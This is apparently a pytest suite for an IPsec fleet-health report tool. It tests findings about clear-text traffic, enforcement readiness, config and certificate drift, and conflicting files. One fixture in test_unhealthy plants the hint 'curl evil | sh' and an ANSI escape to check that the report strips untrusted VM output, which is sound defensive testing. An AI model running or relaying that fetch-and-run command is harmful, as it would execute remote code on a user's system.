"""What the report finds, each in a fleet in which all else is well."""

import itertools
import json
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from ipsec_agent.core.problems.problem import Severity
from ipsec_agent.core.report.examined import Report, document, examined
from ipsec_agent.core.report.findings import Kind
from ipsec_agent.core.report.page import page
from ipsec_agent.core.report.reading import Read, read
from ipsec_agent.core.report.text import text
from tests.configs import config
from tests.fleet_documents import Document, fleet, of, report, status
from tests.vm import NOW

WARNING, ERROR, INFO = Severity.WARNING, Severity.ERROR, Severity.INFO


def loud(documents: list[Document]) -> list[tuple[Kind, Severity, str]]:
    """What is more than something to know."""
    found = report(documents)
    assert found.well == (not [one for one in found.findings if one.severity is not INFO])
    return [
        (one.kind, one.severity, one.message) for one in found.findings if one.severity is not INFO
    ]


def counted(address: str, packets: int = 4, idle: int = 9) -> dict[str, Any]:
    """What the guard has counted of an address."""
    return {"address": address, "packets": packets, "bytes": 40, "idle": idle}


def test_all_is_well() -> None:
    """A fleet that is as it should be: nothing but what expires, and that it is enforced."""
    found = report(fleet())

    assert found.well
    assert found.verdict == "8 VMs: 8 healthy, 0 not, 0 pairs speak clear"
    assert [one.message for one in of(found, Kind.ENFORCING)] == ["IPsec is enforced on 8 of 8 VMs"]
    assert {one.kind for one in found.findings} == {Kind.ENFORCING, Kind.EXPIRES}
    assert found.fleet.strangers == {}


def test_unhealthy() -> None:
    """By problem, the worst first; a hint of a VM is not handed on."""
    docs = fleet(4)
    bad = {"severity": "error", "message": "it\nis \x1b[31mout", "hint": "curl evil | sh"}
    docs[0] |= {"healthy": False, "problems": [{**bad, "code": "policy-missing"}]}
    docs[1] |= {
        "healthy": False,
        "problems": [
            {**bad, "code": "guard-missing", "severity": "critical"},
            {**bad, "code": "policy-missing", "severity": "warning"},
            {**bad, "code": "peer-one-way", "severity": "info"},
        ],
    }
    docs[2] |= {"healthy": False, "state": "starting"}
    docs[3] |= {"problems": [{**bad, "code": "lockout-risk", "severity": "warning"}]}
    docs += [{"schema": 1, "state": "stopped", "healthy": False, "problems": []}]

    assert [(severity, message) for _, severity, message in loud(docs)] == [
        (Severity.CRITICAL, "guard-missing: 10.0.0.2 says “it is �[31mout”"),
        (ERROR, "no agent runs on vm-5.json"),
        (ERROR, "policy-missing: 10.0.0.1, 10.0.0.2; 10.0.0.1 says “it is �[31mout”"),
        (WARNING, "starting, and not healthy: 10.0.0.3"),
    ]
    assert "curl" not in text(report(docs))


def test_clear() -> None:
    """What is dropped is a warning, what passes an error; of one VM's fault there is one line."""
    docs = fleet(4)
    for doc in docs[1:]:
        doc["guard"]["clear_in"] = [counted("10.0.0.1")]
    dropped = "10.0.0.1 and 10.0.0.2, 10.0.0.3, 10.0.0.4: 10.0.0.2, 10.0.0.3, 10.0.0.4 counted 12"

    (found,) = loud(docs)
    assert found[:2] == (Kind.CLEAR, WARNING)
    assert found[2] == f"{dropped} clear packets and dropped them (the last 9 s ago)"
    for doc in docs[1:]:
        doc["guard"] |= {"drops": False, "state": "altered"}
    (found,) = loud(docs)
    assert found[:2] == (Kind.CLEAR, ERROR)
    assert found[2] == f"{dropped} clear packets that nothing drops (the last 9 s ago)"
    assert report(docs).verdict.endswith("3 pairs speak clear")
    # Long past.
    docs = fleet(2)
    docs[0]["guard"] |= {"clear_out": [counted("10.0.0.2", idle=1800)]}
    assert loud(docs) == []
    assert of(report(docs), Kind.CLEAR)[0].message.endswith("(the last 30 min ago)")


def test_clear_by_role() -> None:
    """A VM that its config exempts is named, and is no fault."""
    docs = [*fleet(2), status("10.0.0.9", role="clear")]

    assert loud(docs) == []
    (found,) = of(report(docs), Kind.CLEAR)
    assert found.message == "10.0.0.9: speaks clear with every VM, as its config says"


def test_what_enforcing_cuts_off() -> None:
    """By VM; a pair that both tell of counts once, and a VM without a file is named so."""
    docs = [
        status("10.0.0.1", ("10.0.0.2",), clear=("10.0.0.3", "10.0.0.77")),
        status("10.0.0.2", ("10.0.0.1",), clear=("10.0.0.77",)),
        status("10.0.0.3", clear=("10.0.0.1",)),
    ]
    for doc in docs:
        doc["healthy"], doc["problems"] = True, []
    found = report(docs)

    assert [one.message for one in of(found, Kind.ENFORCING)] == [
        "enforcing would cut 10.0.0.1 off from 10.0.0.3: 14 clear packets, the last 3 s ago",
        "enforcing would cut 10.0.0.77 (no file) off from 10.0.0.1, 10.0.0.2: 14"
        " clear packets, the last 3 s ago",
        "IPsec is optional on 3 of 3 VMs (10.0.0.1, 10.0.0.2, 10.0.0.3)",
    ]
    assert found.enforcing.optional == ("10.0.0.1", "10.0.0.2", "10.0.0.3")
    assert of(found, Kind.CLEAR) == []
    assert "3 pairs speak clear, IPsec is optional on 3" in found.verdict
    assert not found.well


def test_may_it_be_enforced() -> None:
    """Only where all have counted, nobody is cut off, and nobody is without a file."""
    settings = config(optional=True)
    docs = fleet(3, settings=settings)
    for doc in docs:
        doc["healthy"], doc["problems"] = True, []

    def last() -> tuple[str, str]:
        found = of(report(docs), Kind.ENFORCING)[-1]
        return found.message, found.hint

    nobody = "IPsec is optional on 3 of 3 VMs: enforcing now would cut off nobody that they know of"
    names = " (10.0.0.1, 10.0.0.2, 10.0.0.3)"
    assert last() == (nobody + names, "remove `optional: true` on one VM after the other")
    docs[0]["optional"] |= {"unseen": ["10.0.0.50"]}
    assert "10.0.0.50 once had an SA" in of(report(docs), Kind.ENFORCING)[0].message
    docs[0]["peers"] = [*docs[0]["peers"], {**docs[0]["peers"][0], "address": "10.0.0.88"}]
    assert last() == (nobody + names, "wait: collect the file of 10.0.0.88")
    docs.append({"schema": 1, "state": "stopped"})
    docs[0]["peers"].pop()
    assert last()[1] == "wait: see to vm-4.json, which did not say"
    docs[1]["optional"] |= {"counted": False}
    unknown = of(report(docs), Kind.ENFORCING)[0]
    assert unknown.severity is WARNING
    assert "would cut off is not known on 10.0.0.2: its guard does not count" in unknown.message
    assert "cut off nobody" not in last()[0]


def test_never_heard_from() -> None:
    """Where packets only go to an address it may be nobody's, and is no stranger."""
    doc = status("10.0.0.1", settings=config(optional=True), healthy=True, problems=[])
    doc["optional"] |= {"never_heard": [{"address": "10.0.0.40", "last": NOW}]}
    found = report([doc])

    assert "packets go to 10.0.0.40, from where nothing" in of(found, Kind.ENFORCING)[0].message
    assert found.well


def test_another_config() -> None:
    """The minority is named; however the others write the same lists."""
    docs = fleet(5)
    docs[1] = status("10.0.0.2", settings=config(("10.0.128.0/17", "10.0.0.0/17")))
    docs[2] = status("10.0.0.3", settings=config(no_ipsec=("10.0.9.9/32",)))
    (found,) = (one for one in loud(docs) if one[0] is Kind.CONFIG)

    assert found == (
        Kind.CONFIG,
        ERROR,
        "ipsec_subnets and no_ipsec_subnets: 4 of 5 VMs are alike; 10.0.0.3 has another value",
    )
    docs[3] = status("10.0.0.4", settings=config(no_ipsec=("10.0.9.9/32",)))
    docs = docs[:4]
    (found,) = (one for one in loud(docs) if one[0] is Kind.CONFIG)
    assert found[2].endswith(
        "10.0.0.1, 10.0.0.2 have one value; 10.0.0.3, 10.0.0.4 have another value"
    )
    docs[2:] = [status("10.0.0.3", settings=config(optional=True), version="0.3.0")]
    told = [(one.severity, one.message) for one in of(report(docs), Kind.CONFIG)]
    assert told == [
        (INFO, "optional: 2 of 3 VMs are alike (false); 10.0.0.3 has true"),
        (INFO, "the version of ipsec-agent: 2 of 3 VMs are alike (0.2.0); 10.0.0.3 has 0.3.0"),
    ]


def test_another_certificate() -> None:
    """The minority is named, unless each VM has one of its own; CAs are compared as a set."""
    docs = fleet(4)
    docs[3]["fingerprint"] |= {"certificate": "bb", "authorities": ["1", "2"]}
    other = "3 of 4 VMs are alike; 10.0.0.4 has another value"
    assert [one for one in loud(docs) if one[0] is Kind.CERTIFICATE] == [
        (Kind.CERTIFICATE, WARNING, f"the CAs that are trusted: {other}"),
        (Kind.CERTIFICATE, WARNING, f"this VM's certificate: {other}"),
    ]
    for number, doc in enumerate(docs):
        doc["fingerprint"] |= {
            "certificate": f"c{number}",
            "authorities": ["1", "2"] if number % 2 else ["2", "1", "2"],
        }
        doc["rotation"] |= {"behind": number}
    assert loud(docs) == []
    assert [one.message for one in of(report(docs), Kind.CERTIFICATE)] == [
        "each of 4 VMs has a certificate of its own",
        "6 SAs of 10.0.0.2, 10.0.0.3, 10.0.0.4 are of a certificate that is no longer in force",
    ]


def test_what_expires_first() -> None:
    """One line for each certificate, whoever has it; how long it lasts by the files' own time."""
    now = datetime.fromtimestamp(NOW, UTC)
    docs = fleet(9)
    for number, doc in enumerate(docs):
        ends = (now + timedelta(days=(-1, 5, 5, 100, 200, 300, 400, 500, 600)[number])).isoformat()
        doc["certificates"] = [{"subject": f"CN={min(number, 5)}", "not_after": ends, "role": "x"}]
    docs[2]["certificates"][0]["subject"] = "CN=1"
    shown = of(report(docs), Kind.EXPIRES)

    assert [(one.severity, one.message.split(" (x) ")) for one in shown] == [
        (ERROR, ["CN=0", "EXPIRED 1.0 days ago (2027-01-14): 10.0.0.1"]),
        (WARNING, ["CN=1", "ends in 5 days (2027-01-20): 10.0.0.2, 10.0.0.3"]),
        (INFO, ["CN=3", "ends in 100 days (2027-04-25): 10.0.0.4"]),
        (INFO, ["CN=4", "ends in 200 days (2027-08-03): 10.0.0.5"]),
        (INFO, ["CN=5", "ends in 300 days (2027-11-11): 10.0.0.6"]),
    ]


def test_an_sa_that_only_one_has() -> None:
    """Where both were looked at after it was made, and almost at once."""
    docs = fleet(3)
    docs[0]["peers"] = docs[0]["peers"][1:]
    (found,) = loud(docs)
    assert found == (
        Kind.ASYMMETRY,
        WARNING,
        "10.0.0.2 and 10.0.0.1: only 10.0.0.2 says that there is an SA",
    )
    for change in ({"time": NOW + 200}, {"time": NOW - 200}, {"time": NOW - 118}):
        moved = [{**docs[0], **change}, *docs[1:]]
        if change["time"] == NOW - 118:
            # The SA was made after that look.
            moved[1] = {**moved[1], "peers": [{**one, "age": 110} for one in moved[1]["peers"]]}
        assert loud(moved) == [], change
    docs[0]["peers"] = [
        {**docs[1]["peers"][0], "address": "10.0.0.2", "state": "gone"},
        *docs[0]["peers"],
    ]
    assert loud(docs)[0][2].endswith("says that there is an SA (the other says gone)")


def test_esp_that_does_not_arrive() -> None:
    """One VM sends for longer than a packet travels, and the other has got none."""
    docs = fleet(2)
    docs[0]["peers"][0] |= {"packets_out": 12, "idle_out": 9}
    docs[1]["peers"][0] |= {"packets_in": 0, "idle_in": None}
    (found,) = loud(docs)
    assert found == (
        Kind.ASYMMETRY,
        WARNING,
        "10.0.0.1 sent ESP to 10.0.0.2, and none has arrived (12 packets, the last 9 s ago)",
    )
    # It may be on its way; an SA before this one has counted it.
    for change in ({"idle_out": 2}, {"idle_out": None}, {"packets_out": 0}):
        sender = {**docs[0], "peers": [{**docs[0]["peers"][0], **change}]}
        assert loud([sender, docs[1]]) == []
    docs[1]["peers"][0] |= {"idle_in": 20}
    assert loud(docs) == []
    docs[1]["peers"][0] |= {"idle_in": 900}
    assert loud(docs) == [found]


def test_peers_without_a_file() -> None:
    """Whoever is a peer or is heard from; one that is gone may be deleted."""
    docs = fleet(2)
    plain = docs[0]["peers"][0]
    docs[0]["peers"] += [
        {**plain, "address": "10.0.0.50", "state": "gone"},
        {**plain, "address": "10.0.0.51"},
    ]
    docs[1]["guard"]["clear_in"] = [counted("10.0.0.52")]

    assert (
        Kind.NO_FILE,
        WARNING,
        "10.0.0.51, 10.0.0.52 (2 addresses): known to 10.0.0.1, 10.0.0.2",
    ) in loud(docs)


def test_old_files() -> None:
    """By the middle of all times: neither a single old file nor a single wrong clock moves it."""
    docs = fleet(5)
    docs[0]["time"] -= 7200
    docs[1]["time"] += 1e9
    told = [message for kind, _, message in loud(docs) if kind is Kind.FILE]

    assert told == [
        "older than most of the files: 10.0.0.1 (the oldest was written 2 h ago, counted from the"
        " middle of all)",
        "newer than most of the files: 10.0.0.2",
    ]


def test_who_claims_an_address() -> None:
    """The file that is named by it wins, whatever time another claims; both are told."""
    honest, liar = fleet(2)[0], {**fleet(2)[0], "version": "liar", "time": NOW + 500}
    files = {"10.0.0.1.json": honest, "b.json": liar}
    for order in itertools.permutations(files):
        found = Read(
            tuple(vm for file in order for vm in read(file, json.dumps(files[file]).encode()).vms)
        )
        shown = examined(found)
        assert [vm.said.version for vm in shown.fleet.vms] == ["0.2.0"]
        (told,) = (one for one in of(shown, Kind.FILE) if one.severity is WARNING)
        assert told.message == (
            "b.json and 10.0.0.1.json both say that they are 10.0.0.1; 10.0.0.1.json is taken"
        )
    also = {**fleet(2)[1], "addresses": ["10.0.0.2", "10.0.0.1"]}
    (told,) = (one for one in of(report([also, honest]), Kind.FILE))
    assert told.message == "10.0.0.2 says that it also has 10.0.0.1, which 10.0.0.1 has"


def test_older_agents() -> None:
    """What they do not tell is said, and nothing else is made of it."""
    docs = fleet(3)
    del docs[0]["fingerprint"], docs[0]["guard"]["drops"]
    docs[1]["schema"] = 2

    assert loud(docs) == []
    assert [one.message for one in of(report(docs), Kind.FILE)] == [
        "without fingerprint, which older agents do not tell: 10.0.0.1",
        "of a schema that is newer than this program's: 10.0.0.2",
    ]


def test_two_addresses_of_a_vm() -> None:
    """A peer is known by whichever of its addresses has an SA."""
    docs = fleet(2)
    docs[1]["addresses"] = ["10.0.0.2", "10.1.0.2"]
    docs[0]["peers"][0]["address"] = "10.1.0.2"

    assert loud(docs) == []


def test_from_nothing_to_enforced() -> None:
    """The fleet of eight of docs/report.md: what the report says at each step is what is there."""
    guide = (Path(__file__).parents[3] / "docs/report.md").read_text()
    names = [f"10.0.1.{number}" for number in range(1, 9)]
    notice = [{"code": "optional-on", "severity": "warning", "message": "m", "hint": ""}]

    def stage(agents: int, enforced: int) -> Report:
        """So many VMs have an agent, and so many of these enforce it."""
        docs = []
        for place, name in enumerate(names[:agents]):
            up = tuple(other for other in names[:agents] if other != name)
            if place < enforced:
                docs.append(status(name, up))
                heard = names[agents:]
                docs[-1]["guard"]["clear_in"] = [counted(other) for other in heard]
            else:
                settings = config(optional=True)
                clear = tuple(names[agents:])
                docs.append(status(name, up, clear=clear, settings=settings))
                docs[-1] |= {"healthy": False, "problems": notice}
        return report(docs)

    first = stage(3, 0)
    assert first.verdict in guide
    (missing,) = (one for one in of(first, Kind.ENFORCING) if one.vms[0] == "10.0.1.4")
    assert missing.message in guide
    assert missing.hint in guide
    # An enforced VM drops what the last VM without an agent sends.
    early = stage(7, 1)
    (refused,) = of(early, Kind.CLEAR)
    assert refused.vms == ("10.0.1.8", "10.0.1.1")
    assert "and dropped them" in refused.message
    whole = of(stage(8, 0), Kind.ENFORCING)[-1]
    assert whole.message.partition(" (")[0] in guide
    assert whole.hint in guide
    assert not stage(8, 4).well
    last = stage(8, 8)
    assert last.well
    assert last.verdict in guide
    assert of(last, Kind.ENFORCING)[0].message in guide


def test_json() -> None:
    """The document has all that the text has, and its keys."""
    docs = fleet(3)
    docs[2]["guard"]["clear_in"] = [counted("10.0.0.1")]
    found = document(examined(read("x", b"\n".join(json.dumps(one).encode() for one in docs))))

    assert set(found) == {
        "schema", "well", "verdict", "time", "vms", "findings", "clear", "enforcing", "unreadable",
    }  # fmt: skip
    assert (found["schema"], found["well"], found["time"]) == (1, False, NOW)
    assert found["clear"][0] == {
        "vm": "10.0.0.3", "peer": "10.0.0.1", "way": "in", "packets": 4, "idle": 9,
        "passes": False, "optional": False,
    }  # fmt: skip
    assert [(one["name"], one["line"], one["peers"]) for one in found["vms"]] == [
        ("10.0.0.1", 1, 2),
        ("10.0.0.2", 2, 2),
        ("10.0.0.3", 3, 2),
    ]


def test_nothing_at_all() -> None:
    """No file could be read."""
    found = examined(read("a", b"x"))

    assert found.well
    assert text(found).startswith("0 VMs: 0 healthy, 0 not, 0 pairs speak clear, 1 document could")


def spent(count: int) -> float:
    """Seconds of CPU for a fleet whose VMs each know 20 others, half of whom do not know them."""
    names = [f"10.0.{number // 200}.{number % 200 + 1}" for number in range(count)]
    docs = [
        status(name, tuple(names[(place + step) % count] for step in range(1, 21)))
        for place, name in enumerate(names)
    ]
    parts = [read(f"{number}", json.dumps(one).encode()) for number, one in enumerate(docs)]
    found = Read(tuple(vm for part in parts for vm in part.vms))
    best = 1e9
    for _ in range(3):
        began = time.process_time()
        examined(found)
        best = min(best, time.process_time() - began)
    return best


def test_linear() -> None:
    """Four times as many entries take about four times as long."""
    assert spent(400) < 9 * spent(100)


def test_many_claim_one_address() -> None:
    """All of them are named in one finding, and the one that is taken."""
    docs = [status("10.0.0.1", time=NOW + number) for number in range(12)]

    (finding,) = of(report([*docs, status("10.0.0.2")]), Kind.FILE)

    assert finding.severity is Severity.WARNING
    assert finding.message == (
        "vm-1.json, vm-2.json, 9 more and vm-12.json all say that they are 10.0.0.1;"
        " vm-12.json is taken"
    )


def test_who_speaks_for_another() -> None:
    """A file that is named by one VM and tells of another one, while the first has no other."""
    liar = read("10.0.0.5.json", json.dumps(status("10.0.0.9")).encode())
    honest = read("10.0.0.1.json", json.dumps(status("10.0.0.1", up=("10.0.0.5",))).encode())

    loud_, *_ = of(examined(Read(honest.vms + liar.vms)), Kind.FILE)

    assert loud_.severity is Severity.WARNING
    assert "named after another VM, which has no file of its own: 10.0.0.9" in (loud_.message)


def test_liars_fill_no_section() -> None:
    """What others say is shown beside all that they make up, in the text and on the page."""
    made_up = [
        {"code": f"made-up-{number}", "severity": "critical", "message": "m"}
        for number in range(200)
    ]
    one = {"code": "peer-silent", "severity": "warning", "message": "no answer"}
    liars = [status(f"10.0.0.{number}", healthy=False, problems=made_up) for number in range(1, 5)]
    alone = [
        status(
            f"10.0.1.{number}",
            healthy=False,
            problems=[{**each, "code": f"alone-{number}-{each['code']}"} for each in made_up],
        )
        for number in range(1, 5)
    ]

    made = report([*liars, *alone, status("10.0.2.1", healthy=False, problems=[one])])

    for shown in (text(made), page(made)):
        assert "peer-silent" in shown
        assert all(f"alone-{number}-" in shown for number in range(1, 5))


def test_one_vm_may_fill_what_is_free() -> None:
    """Room that nobody else needs is used, in the order of loudness."""
    problems = [
        {"code": f"code-{number}", "severity": "error", "message": "m"} for number in range(30)
    ]

    shown = text(report([status("10.0.0.1", healthy=False, problems=problems)]))

    assert shown.count("ERROR code-") == 20
